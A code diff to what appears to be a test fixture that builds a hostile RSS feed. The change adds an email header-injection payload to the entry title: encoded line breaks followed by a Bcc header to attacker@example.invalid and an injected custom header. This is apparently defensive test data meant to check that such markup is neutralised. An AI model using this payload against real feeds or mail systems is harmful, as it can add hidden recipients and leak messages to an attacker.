@@ -150,7 +150,7 @@ def _xml_escape(text: str) -> str:
 
 
 def hostile_feed(base_url: str) -> bytes:
-    """A valid RSS feed whose one entry mentions the school amid markup meant to run or ping.
+    """A valid RSS feed whose one entry mentions the school amid markup meant to run, ping or add headers.
 
     The description carries the text twice: entity-escaped and inside CDATA, as real feeds do.
     """
@@ -161,7 +161,7 @@ def hostile_feed(base_url: str) -> bytes:
 <link>{base_url}/</link>
 <description>A feed whose entry tries to smuggle markup</description>
 <item>
-  <title>{escaped}</title>
+  <title>{escaped}&#13;&#10;Bcc: attacker@example.invalid&#13;&#10;X-Injected: yes</title>
   <link>{base_url}/hostile-entry.html</link>
   <guid isPermaLink="false">hostile-entry-1</guid>
   <pubDate>Mon, 23 Nov 2026 09:00:00 +0000</pubDate>
